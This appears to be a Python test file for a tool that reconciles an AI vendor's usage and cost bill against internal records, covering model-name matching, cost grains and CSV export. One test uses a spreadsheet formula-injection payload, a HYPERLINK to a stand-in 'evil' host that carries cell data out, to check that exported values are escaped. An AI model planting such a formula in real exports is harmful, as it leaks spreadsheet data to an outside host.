"""Theirs beside ours: names that mean the same, grains that differ, sums that are told once."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitoring.books.comparing import ALL, Compared, Comparison
from monitoring.books.comparison_csv import rows, safe
from monitoring.books.matching import OTHERS, Keys, plain, same_models
from monitoring.books.ours import Ours
from monitoring.books.theirs import Costs, Counts, Group, Theirs
from monitoring.books.verdicts import DIFFERS, EQUAL, ONLY_OURS, ONLY_THEIRS, Pair, pairs, verdict
from monitoring.models import ReconciliationLine

DAY = date(2026, 9, 21)
NANO = 10**9


def ours(model: str = "m", token: str = "fp", **more: Any) -> Ours:
    base = {"day": DAY, "requests": 1, "input": 10, "output": 5, "cost_nano": NANO, "unknown": 0}
    return Ours(model=model, token=token, **{**base, **more})


def theirs(counts: dict[tuple[str, str], int] | None = None, costs: dict[tuple[str, str], str] | None = None) -> Theirs:
    """By (key, model): requests, and US dollars."""
    return Theirs(
        counts={Group(DAY, *one): Counts(number, number * 10, number * 5) for one, number in (counts or {}).items()},
        costs={Group(DAY, *one): Costs(Decimal(usd), 1) for one, usd in (costs or {}).items()},
        tells={*(("requests", "input", "output") if counts else ()), *(("cost",) if costs else ())},
        cents=False,
    )


def compared(their: Theirs, *our: Ours, **keys: str) -> Compared:
    return Comparison(their, Keys(keys, in_file=their.keys()), our).made()


def lines(found: Compared) -> dict[tuple[str, str], tuple[int | None, int, int | None, int]]:
    """By (key, model): requests and cost of both."""
    return {
        (one.place.token, one.place.model): (one.theirs_requests, one.ours_requests, one.theirs_nano, one.ours_nano)
        for one in found.lines
    }


@pytest.mark.parametrize(
    "one, other",
    [
        ("gpt-4o-2024-08-06", "gpt-4o"),
        ("Claude Haiku 4.5", "claude-haiku-4-5-20251001"),
        ("gpt-4-0613", "gpt-4"),
        ("Claude 3.5 Sonnet 2024-10-22", "claude-3-5-sonnet-20241022"),
        ("models/gemini-2.5-pro", "gemini-2.5-pro"),
        ("claude-3-7-sonnet-latest", "Claude Sonnet 3.7"),
        ("mistral-large-2407", "mistral-large-latest"),
        ("openai/gpt-4.1", "gpt-4.1-2025-04-14"),
        ("anthropic.claude-3-haiku-20240307-v1:0", "anthropic.claude-3-haiku"),
    ],
)
def test_names_that_differ_by_a_date_alone_are_one(one: str, other: str) -> None:
    assert plain(one) == plain(other)


@pytest.mark.parametrize(
    "one, other",
    [
        ("gpt-4o", "gpt-4o-mini"),
        ("gpt-4", "gpt-4.1"),
        ("m:free", "m"),
        ("o1", "o3"),
        ("claude-opus-4-1", "claude-opus-4"),
        ("llama-3-8b", "llama-3-70b"),
    ],
)
def test_other_models_stay_apart(one: str, other: str) -> None:
    assert plain(one) != plain(other)


def test_an_alias_of_ours_is_the_vendor_s_dated_version() -> None:
    assert same_models(["gpt-4o-2024-08-06"], [], ["gpt-4o"])["gpt-4o"] == "gpt-4o-2024-08-06"
    both = same_models(["gpt-4o-2024-08-06"], [], ["gpt-4o", "gpt-4o-2024-08-06"])
    assert set(both.values()) == {"", "gpt-4o-2024-08-06"}
    exact = same_models(["a-2024-08-06", "a-2024-05-13"], [], ["a-2024-08-06"])
    assert all(name == label for name, label in exact.items())
    unclear = same_models(["a-2024-08-06", "a-2024-05-13"], [], ["a-2024-08-06", "a"])
    assert set(unclear.values()) == {"", "a"}


def test_a_bill_that_calls_the_model_as_people_do_is_of_the_same_model() -> None:
    their = theirs({("", "claude-haiku-4-5-20251001"): 1}, {("", "Claude Haiku 4.5"): "1"})
    found = compared(their, ours("claude-haiku-4-5"))
    assert lines(found) == {("", "claude-haiku-4-5-20251001"): (1, 1, NANO, NANO)}


def test_what_only_one_side_has_stands_beside_zero() -> None:
    found = compared(theirs({("", "a"): 2}, {("", "a"): "2"}), ours("b"))
    assert lines(found) == {("", "a"): (2, 0, 2 * NANO, 0), ("", "b"): (0, 1, 0, NANO)}


def test_costs_by_day_alone_have_a_line_of_their_own() -> None:
    found = compared(theirs({("", "a"): 2, ("", "b"): 1}, {("", ""): "3"}), ours("a", requests=2), ours("b"))
    assert lines(found) == {
        ("", "a"): (2, 2, None, 0),
        ("", "b"): (1, 1, None, 0),
        (ALL, ALL): (None, 0, 3 * NANO, 2 * NANO),
    }
    totals = {"theirs_requests": 3, "ours_requests": 3, "theirs_nano": 3 * NANO, "ours_nano": 2 * NANO}
    assert totals.items() <= found.totals.items()


def test_counts_by_key_and_costs_without_keys() -> None:
    found = compared(
        theirs({("k1", "a"): 1, ("k2", "a"): 1}, {("", "a"): "2"}), ours("a", "fp1"), ours("a", "fp2"), k1="fp1"
    )
    assert lines(found) == {
        ("fp1", "a"): (1, 1, None, 0),
        (OTHERS, "a"): (1, 1, None, 0),
        (ALL, "a"): (None, 0, 2 * NANO, 2 * NANO),
    }


def test_without_a_known_key_all_keys_are_compared_together() -> None:
    found = compared(theirs({("k1", "a"): 1, ("k2", "a"): 1}), ours("a", "fp1"), ours("a", "fp2"))
    assert lines(found) == {("", "a"): (2, 2, None, 2 * NANO)}


def test_costs_alone_are_compared_too() -> None:
    found = compared(theirs(None, {("", "a"): "1.5"}), ours("a", unknown=1))
    assert lines(found) == {("", "a"): (None, 1, 1_500_000_000, NANO)}
    assert found.lines[0].ours_unknown == 1


def test_cents_leave_room_for_rounding() -> None:
    their = theirs(None, {("", "a"): "1.50"})
    their.cents = True
    their.costs[Group(DAY, "", "a")].rows = 4
    assert compared(their).rounding == 4 * 5_000_000


@given(
    counts=st.dictionaries(
        st.tuples(st.sampled_from(["", "k1", "k2"]), st.sampled_from(["", "a", "a-2024-08-06", "b"])),
        st.integers(0, 99),
    ),
    costs=st.dictionaries(
        st.tuples(st.sampled_from(["", "k1"]), st.sampled_from(["", "a", "A", "c"])), st.integers(0, 99).map(str)
    ),
    our=st.lists(
        st.builds(ours, model=st.sampled_from(["a", "b", "a-2024-05-13"]), token=st.sampled_from(["", "fp1", "fp2"]))
    ),
    mapped=st.booleans(),
)
def test_nothing_is_lost_and_nothing_counted_twice(
    counts: dict[tuple[str, str], int], costs: dict[tuple[str, str], str], our: list[Ours], mapped: bool
) -> None:
    found = compared(theirs(counts, costs), *our, **({"k1": "fp1"} if mapped else {}))
    assert sum(one.theirs_requests or 0 for one in found.lines) == sum(counts.values())
    assert sum(one.theirs_nano or 0 for one in found.lines) == sum(int(usd) for usd in costs.values()) * NANO
    assert sum(one.ours_requests for one in found.lines) == len(our)
    assert sum(one.ours_nano for one in found.lines) == len(our) * NANO
    assert len({one.place for one in found.lines}) == len(found.lines)


def line(**more: Any) -> ReconciliationLine:
    return ReconciliationLine(**{"day": DAY, "token": "", "model": "m", **more})


@pytest.mark.parametrize(
    "facts, word",
    [
        ({"theirs_requests": 100, "ours_requests": 99}, EQUAL),
        ({"theirs_requests": 100, "ours_requests": 98}, DIFFERS),
        ({"theirs_requests": 1, "ours_requests": 0}, ONLY_THEIRS),
        ({"theirs_requests": 0, "ours_requests": 1}, ONLY_OURS),
        ({"theirs_nano": 104, "ours_nano": 100}, EQUAL),
        ({"theirs_nano": 106, "ours_nano": 100}, DIFFERS),
        ({"theirs_nano": 0, "ours_nano": 0}, EQUAL),
        ({"ours_nano": 5}, "not told"),
    ],
)
def test_a_line_s_verdict(facts: dict[str, int], word: str) -> None:
    assert verdict(pairs(line(**facts)), 0.01, 5) == word


def test_the_csv_runs_no_formula() -> None:
    evil = '=HYPERLINK("http://evil/?"&A1)'
    text = "".join(rows([line(model=evil, token="@sum", theirs_nano=5, ours_nano=10**9)], 0.01, 0))
    head, row = text.splitlines()
    assert head.startswith("day,key,model,verdict,theirs_requests,ours_requests,difference_requests,")
    assert row.startswith("2026-09-21,'@sum,\"'=HYPERLINK(")
    assert row.endswith(",0.000000005,1.000000000,-0.999999995,0")


@given(st.text())
def test_a_safe_text_begins_like_no_formula(text: str) -> None:
    assert not safe(text).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.integers(0, 10**18), st.integers(0, 10**18))
def test_equal_is_the_same_from_both_sides(one: int, other: int) -> None:
    assert Pair(one, other).equal(0.01) == Pair(other, one).equal(0.01)
